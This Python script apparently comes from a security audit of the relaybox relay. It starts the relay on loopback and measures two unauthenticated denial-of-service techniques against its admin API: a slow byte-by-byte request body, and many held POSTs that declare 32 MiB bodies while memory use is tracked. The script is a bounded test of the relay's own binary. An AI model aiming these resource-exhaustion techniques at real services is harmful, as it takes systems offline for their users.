#!/usr/bin/env python3
"""Issue 14 item 2: unauthenticated memory and time held by HTTP request bodies.

Starts `relaybox dev --wizard` (set-up pending: the admin API answers on plain HTTP, port 80 +
offset) on a spare loopback address, then, without logging in:

1. slow body: one POST /api/admin/login declaring 100 bytes and sending one byte every
   INTERVAL seconds; measures how long the relay keeps the request open (capped at CAP s).
2. held POSTs: N connections each POST to /api/admin/* (settings, restore, password, login in
   turn) declaring a 32 MiB - 1 body and send up to MIB of it, never the last byte, and stay
   open. The relay's VmRSS (/proc/PID/status) is read before and while they are held.

Prints one JSON line. Bounded: N connections, MIB MiB each, CAP seconds; loopback only.

    scripts/attack/http_hold.py --bin /work/baseline/relaybox
    scripts/attack/http_hold.py --bin target/release/relaybox
"""
import argparse
import json
import os
import shutil
import signal
import socket
import subprocess
import sys
import tempfile
import threading
import time

PATHS = ["settings", "restore", "password", "login"]


def rss_kib(pid):
    with open(f"/proc/{pid}/status") as f:
        for line in f:
            if line.startswith("VmRSS:"):
                return int(line.split()[1])
    return 0


def held_post(host, port, path, mib, out, stop):
    """Sends the headers and up to `mib` MiB of body, then holds the connection until `stop`."""
    r = {"path": path, "sent": 0, "answer": None}
    out.append(r)
    try:
        s = socket.create_connection((host, port), timeout=10)
    except OSError as e:
        r["answer"] = f"connect: {e}"
        return
    try:
        s.settimeout(5)
        s.sendall(
            f"POST /api/admin/{path} HTTP/1.1\r\nHost: {host}\r\nContent-Type: application/json\r\n"
            f"Content-Length: {(32 << 20) - 1}\r\n\r\n".encode()
        )
        chunk = b"A" * (256 << 10)
        while r["sent"] < mib << 20 and not stop.is_set():
            try:
                s.sendall(chunk)
            except socket.timeout:
                r["answer"] = "relay stopped reading"
                break
            r["sent"] += len(chunk)
        if r["answer"] is None:
            s.settimeout(0.5)
            try:
                data = s.recv(200)
                r["answer"] = data.split(b"\r\n", 1)[0].decode(errors="replace") if data else "closed"
            except socket.timeout:
                r["answer"] = "no answer (held)"
    except OSError as e:
        r["answer"] = f"relay closed: {e.__class__.__name__}"
    stop.wait()
    s.close()


def slow_body(host, port, interval, cap):
    """Seconds until the relay answers or closes a body sent one byte per `interval` s."""
    s = socket.create_connection((host, port), timeout=10)
    t0 = time.monotonic()
    s.sendall(
        f"POST /api/admin/login HTTP/1.1\r\nHost: {host}\r\nContent-Type: application/json\r\n"
        f"Content-Length: 100\r\n\r\n".encode()
    )
    sent = 0
    answer = None
    try:
        while time.monotonic() - t0 < cap and sent < 100:
            s.settimeout(interval)
            try:
                data = s.recv(200)
                answer = data.split(b"\r\n", 1)[0].decode(errors="replace") if data else "closed"
                break
            except socket.timeout:
                pass
            s.sendall(b" ")
            sent += 1
    except OSError as e:
        answer = f"closed: {e.__class__.__name__}"
    held = time.monotonic() - t0
    s.close()
    return {"held_s": round(held, 1), "bytes_sent": sent, "answer": answer or f"still open at cap {cap} s"}


def main():
    ap = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    ap.add_argument("--bin", default="target/release/relaybox")
    ap.add_argument("--conns", type=int, default=20)
    ap.add_argument("--mib", type=int, default=30, help="MiB sent per held POST (< 32)")
    ap.add_argument("--interval", type=float, default=5.0, help="seconds between slow-body bytes")
    ap.add_argument("--cap", type=float, default=120.0, help="longest slow-body measurement")
    ap.add_argument("--ip", default="127.0.0.61")
    ap.add_argument("--port-offset", type=int, default=21000)
    args = ap.parse_args()
    assert args.ip.startswith("127."), "loopback only"
    assert 0 < args.conns <= 100 and 0 < args.mib < 32 and args.cap <= 600

    data = tempfile.mkdtemp(prefix="relaybox-http-hold-")
    cmd = [args.bin, "dev", "--wizard", "--ip", args.ip, "--data", data, "--port-offset", str(args.port_offset)]
    env = dict(os.environ, RUST_LOG="warn,relaybox::server=info", NO_COLOR="1")
    proc = subprocess.Popen(cmd, stdout=subprocess.DEVNULL, stderr=subprocess.PIPE, env=env)
    stop = threading.Event()
    threads = []
    try:
        deadline = time.time() + 60
        seen = ""
        while "all listeners up" not in seen:
            line = proc.stderr.readline().decode(errors="replace")
            seen += line
            if (not line and proc.poll() is not None) or time.time() > deadline:
                raise RuntimeError("relaybox did not start:\n" + seen[-2000:])
        threading.Thread(target=proc.stderr.read, daemon=True).start()
        time.sleep(1)
        port = 80 + args.port_offset
        # The slow body first: the held POSTs include logins, which use up this address's
        # login attempts.
        slow = slow_body(args.ip, port, args.interval, args.cap)
        rss_before = rss_kib(proc.pid)
        results = []
        t0 = time.monotonic()
        for i in range(args.conns):
            t = threading.Thread(
                target=held_post, args=(args.ip, port, PATHS[i % len(PATHS)], args.mib, results, stop), daemon=True
            )
            t.start()
            threads.append(t)
        # Until every connection has sent its part (or was refused), at most 120 s.
        while time.monotonic() - t0 < 120 and (
            len(results) < args.conns or any(r["answer"] is None for r in results)
        ):
            time.sleep(0.2)
        time.sleep(1)
        rss_held = rss_kib(proc.pid)
        answers = {}
        for r in results:
            answers[r["answer"]] = answers.get(r["answer"], 0) + 1
        sent_mib = round(sum(r["sent"] for r in results) / (1 << 20))
        stop.set()
        for t in threads:
            t.join(5)
        print(json.dumps({
            "bin": args.bin,
            "held_posts": args.conns,
            "rss_before_mib": round(rss_before / 1024, 1),
            "rss_with_held_posts_mib": round(rss_held / 1024, 1),
            "body_mib_sent": sent_mib,
            "held_post_answers": answers,
            "slow_body_interval_s": args.interval,
            "slow_body": slow,
        }))
    finally:
        stop.set()
        proc.send_signal(signal.SIGTERM)
        try:
            proc.wait(10)
        except subprocess.TimeoutExpired:
            proc.kill()
        shutil.rmtree(data, ignore_errors=True)


if __name__ == "__main__":
    sys.exit(main())
